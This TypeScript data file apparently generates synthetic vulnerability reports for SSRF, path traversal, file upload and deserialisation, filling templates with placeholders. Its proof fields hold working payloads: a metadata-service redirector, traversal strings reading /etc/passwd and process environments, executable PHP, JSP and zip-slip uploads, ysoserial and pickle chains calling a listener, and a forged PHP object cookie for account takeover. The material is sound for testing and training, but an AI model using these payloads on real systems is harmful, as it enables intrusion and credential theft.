import type { VulnerabilityClass } from './vulnerability-class.ts'

const serverSideRequest: VulnerabilityClass = {
  key: 'server-side-request',
  type: 'Server-side request forgery',
  cwe: 918,
  weight: 6,
  surfaces: ['web', 'api', 'infrastructure'],
  shape: 'read',
  severities: [
    ['Critical', 2],
    ['High', 5],
    ['Medium', 3],
  ],
  places: [
    { method: 'POST', path: '«api»/webhooks/test', parameter: 'url' },
    { method: 'POST', path: '«collection»/import', parameter: 'sourceUrl' },
    { path: '«api»/proxy/image', parameter: 'src' },
    { method: 'POST', path: '«collection»/{id}/pdf', parameter: 'logoUrl' },
    { method: 'POST', path: '«api»/integrations/oidc/discover', parameter: 'issuer' },
  ],
  titles: [
    'SSRF in «path» reads internal services through `«parameter»`',
    'Port scan of the internal network through `«parameter»` (SSRF at «path»)',
    'SSRF filter of «path» follows redirects to private addresses',
    'Full-read SSRF via `«parameter»`: cloud metadata of «host»',
    'Blind SSRF at «path» with timing and error messages',
    '`«parameter»` is fetched from inside: redirect reaches the metadata service (SSRF)',
  ],
  summaries: [
    '`«parameter»` is fetched by the server and the answer is shown. Private addresses are refused, but a redirect to one is followed.',
    'The service behind `«path»` fetches any address in `«parameter»`. It does not show the answer, yet error and time tell which ports inside are open; `«internalHost»` can be reached.',
    'The check of `«parameter»` looks at the first address only. A redirect leads the server of «host» to the metadata service.',
  ],
  steps: [
    [
      'Host a redirect to `http://169.254.169.254/latest/meta-data/` at `«listener»`.',
      'Send the request below with that address as `«parameter»`.',
      'The answer of the metadata service is part of the response.',
      'I asked for the **names** of the roles only, not for credentials.',
    ],
    [
      'Use `http://«internalIp»:22/` as `«parameter»`: the error says "connection refused" after 3 ms.',
      'Use port 9200: the error quotes the first bytes of the answer.',
      'The difference tells which ports are open. I tried three.',
    ],
    [
      'Run the script below on a host that «company» can reach.',
      'Use its address as `«parameter»` in «method» `«path»`.',
      'The log of «host» (shown to the user under *Details*) has the list of metadata entries.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Request and response:',
        lang: 'http',
        code: `«method» «path» HTTP/2
Host: «host»
Cookie: «cookieName»=«session»
Content-Type: application/json

{"«parameter»":"https://«listener»/r?to=http://169.254.169.254/latest/meta-data/iam/security-credentials/"}

HTTP/2 200
Content-Type: application/json

{"status":200,"body":"«slug»-prod-worker"}`,
      },
    ],
    [
      {
        say: 'Scanning three ports with the time that each took:',
        lang: 'text',
        code: `http://«internalIp»:22/     status 0    3 ms   connection refused
http://«internalIp»:9200/   status 200  8 ms   {"cluster_name":"«slug»-search","version":…
http://«internalHost»/      status 302  5 ms   Location: /login`,
      },
    ],
    [
      {
        say: 'The redirector, complete:',
        lang: 'python',
        code: `from http.server import BaseHTTPRequestHandler, HTTPServer

class Redirect(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(302)
        self.send_header("Location", "http://169.254.169.254/latest/meta-data/")
        self.end_headers()

HTTPServer(("", 8080), Redirect).serve_forever()`,
      },
    ],
  ],
  impacts: [
    'With the role `«slug»-prod-worker` an attacker may read the storage of «company», among it «secrets».',
    'Services that trust the network are open to the internet: search, configuration, consoles without a password.',
  ],
  fixes: [
    'Fetch through a proxy that refuses private addresses after name resolution and at each redirect; require tokens for the metadata service.',
    'Keep a list of allowed hosts for `«parameter»`, there are only three in use.',
  ],
  notes: [
    'Metadata v1 is off on the new nodes, but this worker runs on an old one. Role can read two buckets. High.',
    'Redirect is followed, reproduced with our own listener. Egress proxy exists, this service does not use it.',
  ],
}

const pathTraversal: VulnerabilityClass = {
  key: 'path-traversal',
  type: 'Path traversal',
  cwe: 22,
  weight: 4,
  surfaces: ['web', 'api', 'device', 'infrastructure'],
  shape: 'read',
  severities: [
    ['Critical', 1],
    ['High', 6],
    ['Medium', 3],
  ],
  places: [
    { path: '«api»/files/download', parameter: 'name' },
    { path: '/reports/view', parameter: 'template' },
    { path: '«collection»/{id}/attachments', parameter: 'filename' },
    { path: '/i18n/load', parameter: 'locale' },
  ],
  titles: [
    'LFI: `«parameter»=....//....//etc/passwd` at «path»',
    'Directory traversal with encoded slashes at «path»',
    'Path traversal in «path» reads any file of the server',
    'Arbitrary file read via `«parameter»` on «host»: environment of the process',
  ],
  summaries: [
    'The filter takes `../` out of `«parameter»` once. `....//` becomes `../` by that, so the directory can be left.',
    '`«parameter»` is decoded twice and joined to a directory. With `..%252f` I leave it and read files such as `/proc/self/environ`.',
  ],
  steps: [
    [
      'Open any attachment and look at the address.',
      'Replace `«parameter»` by the value below.',
      'The answer is the file.',
    ],
  ],
  proofs: [
    [
      {
        say: 'With curl, so that no browser tidies up the path:',
        lang: 'bash',
        code: `$ curl -s --path-as-is -H 'Cookie: «cookieName»=«session»' \\
    'https://«host»«path»?«parameter»=....//....//....//....//etc/passwd' | head -3
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
app:x:1000:1000::/srv/app:/bin/sh`,
      },
    ],
    [
      {
        say: 'The environment of the process, values masked:',
        lang: 'http',
        code: `GET «path»?«parameter»=..%252f..%252f..%252fproc%252fself%252fenviron HTTP/1.1
Host: «host»

HTTP/1.1 200 OK
Content-Type: application/octet-stream

PATH=/usr/bin DATABASE_URL=postgres://app:******@«internalHost»/app SECRET_KEY_BASE=8a1f******`,
      },
    ],
  ],
  impacts: [
    'Source, configuration and keys can be read. With the signing key for sessions it becomes a takeover of any account.',
    'Any file the service may read, uploaded documents of other «customer»s included.',
  ],
  fixes: [
    'Resolve the path and refuse what does not begin with the directory; better, look the file up by id.',
  ],
  notes: [
    '/etc/passwd from the container, yes. Secrets are mounted under /run and readable for the user. High.',
  ],
}

const fileUpload: VulnerabilityClass = {
  key: 'file-upload',
  type: 'Unrestricted file upload',
  cwe: 434,
  weight: 4,
  surfaces: ['web', 'api'],
  shape: 'takeover',
  severities: [
    ['Critical', 3],
    ['High', 4],
    ['Medium', 3],
  ],
  places: [
    {
      method: 'POST',
      path: '«api»/avatar',
      parameter: 'file',
      detail: 'a .phtml file',
      excerpt: `POST «api»/avatar HTTP/1.1
Host: «host»
Cookie: «cookieName»=«session»
Content-Type: multipart/form-data; boundary=x

--x
Content-Disposition: form-data; name="file"; filename="«handle»-poc.phtml"
Content-Type: image/png

<?php echo 'poc by «handle»: ' . (7 * 7); ?>
--x--

HTTP/1.1 201 Created
{"url":"/uploads/2026/11/«handle»-poc.phtml"}

GET /uploads/2026/11/«handle»-poc.phtml   ->   poc by «handle»: 49`,
    },
    {
      method: 'POST',
      path: '«api»/import',
      parameter: 'archive',
      detail: 'an archive with `../` in its names',
      excerpt: `$ unzip -l «handle».zip
  Length      Name
      412     «segment».csv
       34     ../../../srv/app/templates/«handle».html

POST «api»/import   ->   200 {"imported":2}
GET /«handle»       ->   200 "49"     # the template {{ 7 * 7 }} was rendered`,
    },
    {
      method: 'PUT',
      path: '«api»/branding/logo',
      parameter: 'logo',
      detail: 'a .jsp behind a picture’s first bytes',
      excerpt: `PUT «api»/branding/logo HTTP/1.1
Host: «host»
Content-Type: image/gif
X-Filename: logo.gif;.jsp

GIF89a <%= 7 * 7 %>

HTTP/1.1 200 OK
GET /branding/logo.gif;.jsp   ->   GIF89a 49`,
    },
  ],
  titles: [
    'Unrestricted upload at «path»: «detail» is executed',
    'RCE through an upload to «path» («detail»)',
    'Upload filter of «host» passed by «detail»',
    '«Detail» as `«parameter»` runs on the server',
  ],
  summaries: [
    '`«path»` believes what the caller says about the file. I uploaded «detail», and the server runs it when it is opened.',
    'The list of forbidden files misses «detail». What I uploaded as `«parameter»` is executed.',
  ],
  steps: [
    [
      'Upload something harmless and keep the request.',
      'Replace `«parameter»` by «detail», see below.',
      'Open the address. `49` shows that it was executed.',
      'Please delete my file, its name holds `«handle»`.',
    ],
  ],
  proofs: [[{ say: 'Upload and result:', lang: 'http', code: '«excerpt»' }]],
  impacts: [
    'Code of the attacker runs on the web server. The next step would be a shell, which I left out.',
    'Stored pages and scripts under the real domain, and from an archive files in places where they do not belong.',
  ],
  fixes: [
    'Store uploads outside the document root under names of your own, decide the type by content and serve them from another domain.',
  ],
  notes: [
    '49 it is. Upload directory had AllowOverride after the migration. Removed the file, engine is off for /uploads now.',
  ],
}

const deserialisation: VulnerabilityClass = {
  key: 'deserialisation',
  type: 'Insecure deserialisation',
  cwe: 502,
  weight: 2,
  surfaces: ['web', 'api', 'code'],
  shape: 'takeover',
  severities: [
    ['Critical', 6],
    ['High', 3],
  ],
  places: [
    {
      path: '/«segment»/wizard',
      parameter: 'state',
      detail: 'a Java object',
      excerpt: `# the value, decoded
00000000  ac ed 00 05 73 72 00 2e  6f 72 67 2e 73 70 72 69  |....sr..org.spri|

$ java -jar ysoserial.jar URLDNS https://«listener» | base64 -w0 > chain
$ curl -s -o /dev/null -w '%{http_code}\\n' 'https://«host»«path»' --data-urlencode state@chain
500
# listener: 11:20:04 DNS A «listener» from «ip»`,
    },
    {
      path: '/«segment»/resume',
      parameter: 'draft',
      detail: 'a pickled Python object',
      excerpt: `$ python3 - <<'END'
import base64, pickle, socket
class Lookup:
    def __reduce__(self):
        return (socket.gethostbyname, ("«listener»",))
print(base64.b64encode(pickle.dumps(Lookup())).decode())
END
gASVMAAAAAAAAACMB19zb2NrZXSUjA1nZXRob3N0YnluYW1l…

# sent as draft=…; listener: 11:20:04 DNS A «listener» from «ip»`,
    },
    {
      path: '/',
      parameter: 'remember_me',
      detail: 'a serialised PHP object',
      excerpt: `# cookie as it comes: O:8:"Remember":2:{s:4:"user";i:«meId»;s:4:"hash";N;}
# cookie as I send it:
$ curl -s -H 'Cookie: remember_me=O%3A8%3A%22Remember%22%3A1%3A%7Bs%3A4%3A%22user%22%3Bi%3A«victimId»%3B%7D' https://«host»/me
{"id":«victimId»,"email":"«victim»"}`,
    },
  ],
  titles: [
    'Insecure deserialisation of `«parameter»` («detail») on «host»',
    '`«parameter»` at «path» is «detail» without a signature',
    'Unsigned `«parameter»` is deserialised: «detail»',
    'Foreign objects through `«parameter»` («detail»)',
  ],
  summaries: [
    '`«parameter»` carries «detail» that the server turns back into objects without checking where it comes from.',
    'By changing `«parameter»`, which is «detail», I make the server build an object of my choice. I chose a harmless one.',
  ],
  steps: [
    [
      'Decode `«parameter»`: the first characters give away what it is.',
      'Build a value that does one harmless thing.',
      'Send it to `«path»` and watch.',
    ],
  ],
  proofs: [[{ say: 'From the value to the effect:', lang: 'bash', code: '«excerpt»' }]],
  impacts: [
    'Code execution on the application server with the rights of the service.',
    'Control over the objects of the application, and with the libraries present over the machine.',
  ],
  fixes: ['Sign the value, or better: keep the state on the server and give out an id.'],
  notes: [
    'Reproduced with the harmless value. There are classes within reach that do worse, so Critical stays.',
  ],
}

export const serverFileClasses: readonly VulnerabilityClass[] = [
  serverSideRequest,
  pathTraversal,
  fileUpload,
  deserialisation,
]
